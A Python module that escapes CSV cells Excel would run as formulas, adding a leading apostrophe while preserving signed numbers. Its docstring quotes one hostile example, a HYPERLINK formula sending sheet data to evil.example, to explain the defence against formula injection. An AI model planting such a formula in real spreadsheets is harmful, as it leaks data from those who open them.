"""Cells a spreadsheet would run, made inert in every CSV the package writes.

Ministry staff open ``tables/*.csv`` in Excel, which runs a cell beginning with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) as a formula: a district named
``=HYPERLINK("http://evil.example/?d="&A1,"click")`` would send the sheet's data away. As OWASP
advises, such a text cell gets a leading apostrophe, which spreadsheets show as text and do not
print. Numbers are never changed: number columns are left alone, and a text cell that is a
signed number as the reports write it (``-0.3``, ``+4,7``, ``-1 234``, ``+4,7 %``) stays as it
is: a spreadsheet reads it as that number, and nothing in it can call a function or a program.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
#: A signed number in any of the reports' formats: digits, group and decimal separators
#: (space, no-break spaces, comma, point), an optional percent sign.
PLAIN_NUMBER = re.compile(r"[+-]\d[\d \u00a0\u202f,.]*(\s?%)?")


def inert_cell(value):
    """Return `value` with a leading apostrophe if a spreadsheet would read it as a formula, and
    its line breaks as LF: the CSVs end rows with LF, so a bare CR would go unquoted and split
    the row for a reader."""
    if not isinstance(value, str):
        return value
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    if value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert(frame: pd.DataFrame) -> pd.DataFrame:
    """Return `frame` with every text cell (and column name) a spreadsheet would run made inert;
    number columns are returned unchanged."""
    out = frame.rename(columns=inert_cell)
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(inert_cell)
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """Return a table as CSV text that is the same on every run: \\n, fixed float format."""
    buffer = io.StringIO()
    inert(frame).to_csv(buffer, index=False, lineterminator="\n", float_format="%.10g", quoting=csv.QUOTE_MINIMAL)
    return buffer.getvalue()
